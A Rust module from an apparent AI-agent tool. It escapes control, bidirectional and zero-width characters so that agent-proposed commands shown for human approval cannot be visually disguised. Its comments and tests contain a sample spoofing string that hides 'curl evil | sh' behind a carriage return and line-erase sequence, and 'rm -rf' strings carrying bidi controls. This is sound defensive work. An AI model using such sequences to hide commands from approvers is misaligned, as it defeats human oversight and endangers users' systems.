//! Agent-supplied text rendered for a person: the one function every channel that shows an
//! action to a person goes through (`hands approvals list`, the daemon's stderr, `hands exec`'s
//! confirm prompt, the dashboard, the elicitation and input-required messages).
//!
//! A terminal obeys what it prints: a carriage return and `ESC [2K` rewrite the line, so
//! `curl evil | sh\r\x1b[2Knpm test` reads as `npm test`; an OSC sequence can set a title or a
//! link; a right-to-left override reorders what follows. Browsers and MCP clients honour the
//! bidirectional controls too. So every control character (C0, DEL, C1 — which covers ESC and
//! so every CSI and OSC sequence, and CR), every bidirectional embedding, override, isolate and
//! mark (U+202A–U+202E, U+2066–U+2069, U+200E, U+200F, U+061C), the line and paragraph
//! separators (U+2028, U+2029) and the invisible zero-width ones (U+200B–U+200D, U+2060,
//! U+FEFF) are shown as escapes (`\r`, `\x1b`, `\u{202e}`), and the result says whether any
//! was: such an action's text says so ([`NOTE`]).
//!
//! A newline and a tab are shown as `\n` and `\t` too (a newline could otherwise start a
//! forged `command:` line in a list), but they are ordinary in a script, so they alone do not
//! make the text "escaped". A backslash is shown as it is: what is shown is what runs, and the
//! note tells a real escape from a literal one.

/// What an action whose text had to be escaped says.
pub const NOTE: &str = "(text contained control characters, shown escaped)";

/// Text made safe to show a person, and whether anything in it was not plain text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Shown {
    pub text: String,
    /// Something other than a newline or a tab was escaped.
    pub escaped: bool,
}

/// Characters a terminal, browser or client would act on rather than show.
fn hidden(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{061C}'
                | '\u{200B}'..='\u{200F}'
                | '\u{2028}'..='\u{202E}'
                | '\u{2060}'..='\u{2069}'
                | '\u{FEFF}'
        )
}

/// Renders `text` for a person (see the module's documentation).
pub fn shown(text: &str) -> Shown {
    if !text.chars().any(hidden) {
        return Shown { text: text.to_string(), escaped: false };
    }
    let mut out = String::with_capacity(text.len() + 16);
    let mut escaped = false;
    for c in text.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => {
                out.push_str("\\r");
                escaped = true;
            }
            c if c.is_control() && (c as u32) < 0x80 => {
                out.push_str(&format!("\\x{:02x}", c as u32));
                escaped = true;
            }
            c if hidden(c) => {
                out.push_str(&format!("\\u{{{:04x}}}", c as u32));
                escaped = true;
            }
            c => out.push(c),
        }
    }
    Shown { text: out, escaped }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_is_unchanged_and_not_flagged() {
        let s = shown("npm test -- --grep 'a\\|b' é 日本");
        assert_eq!(s.text, "npm test -- --grep 'a\\|b' é 日本");
        assert!(!s.escaped);
    }

    #[test]
    fn a_line_rewrite_is_shown_escaped_and_flagged() {
        let s = shown("curl evil.sh | sh\r\x1b[2Knpm test");
        assert_eq!(s.text, "curl evil.sh | sh\\r\\x1b[2Knpm test");
        assert!(s.escaped);
        assert!(!s.text.contains('\r') && !s.text.contains('\x1b'));
    }

    #[test]
    fn osc_c1_and_del_are_escaped() {
        let s = shown("a\x1b]0;title\x07b\u{9b}2Kc\x7f");
        assert_eq!(s.text, "a\\x1b]0;title\\x07b\\u{009b}2Kc\\x7f");
        assert!(s.escaped);
    }

    #[test]
    fn bidirectional_controls_are_escaped() {
        for c in [
            '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}',
            '\u{2068}', '\u{2069}', '\u{200E}', '\u{200F}', '\u{061C}', '\u{2028}', '\u{200B}',
            '\u{FEFF}',
        ] {
            let s = shown(&format!("rm -rf {c}safe"));
            assert!(s.escaped, "{c:?}");
            assert!(!s.text.contains(c), "{c:?}");
            assert_eq!(s.text, format!("rm -rf \\u{{{:04x}}}safe", c as u32));
        }
    }

    #[test]
    fn newlines_and_tabs_are_escaped_but_not_flagged() {
        let s = shown("make\n\tmake test");
        assert_eq!(s.text, "make\\n\\tmake test");
        assert!(!s.escaped);
    }
}
